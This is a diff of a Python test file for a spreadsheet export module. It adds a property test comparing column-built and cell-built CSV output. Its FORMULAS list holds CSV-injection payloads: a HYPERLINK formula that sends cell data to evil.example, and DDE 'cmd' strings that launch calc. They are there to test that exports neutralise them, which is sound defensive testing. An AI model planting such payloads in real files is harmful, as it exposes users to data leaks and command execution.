@@ -4,12 +4,13 @@ import csv
 import io
 import zipfile
 
+import pyarrow as pa
 import pytest
 import xlsxwriter
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from reports.spreadsheets import LONGEST_CELL, WORKBOOK_OPTIONS, csv_text, safe_text
+from reports.spreadsheets import LONGEST_CELL, WORKBOOK_OPTIONS, csv_table, csv_text, safe_text
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"詳細")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
@@ -54,6 +55,27 @@ def test_tables_keep_their_shape_and_every_cell_is_safe(rows):
             assert cell == (
                 safe_text(value) if isinstance(value, str) else "" if value is None else str(value)
             )
+
+
+@settings(deadline=None)  # the first call loads the library
+@given(
+    st.lists(
+        st.tuples(
+            st.none()
+            | st.text(max_size=20)
+            | st.sampled_from([*FORMULAS, "あ" * 32_767, "い\u3000う", '"引用",']),
+            st.none() | st.integers(-5, 5),
+            st.none() | st.dates(),
+        ),
+        max_size=8,
+    )
+)
+def test_a_table_written_column_by_column_is_the_one_written_cell_by_cell(rows):
+    columns = list(zip(*rows, strict=True)) or [(), (), ()]
+    kinds = [pa.string(), pa.int64(), pa.date32()]
+    names = ["＝話題", "件", "日,付"]
+    arrays = [pa.chunked_array([pa.array(column, kind)]) for column, kind in zip(columns, kinds, strict=True)]
+    assert csv_table(pa.table(dict(zip(names, arrays, strict=True)))) == csv_text(names, rows).encode()
 
 
 def test_a_workbook_holds_texts_and_no_formulas_or_links(tmp_path):
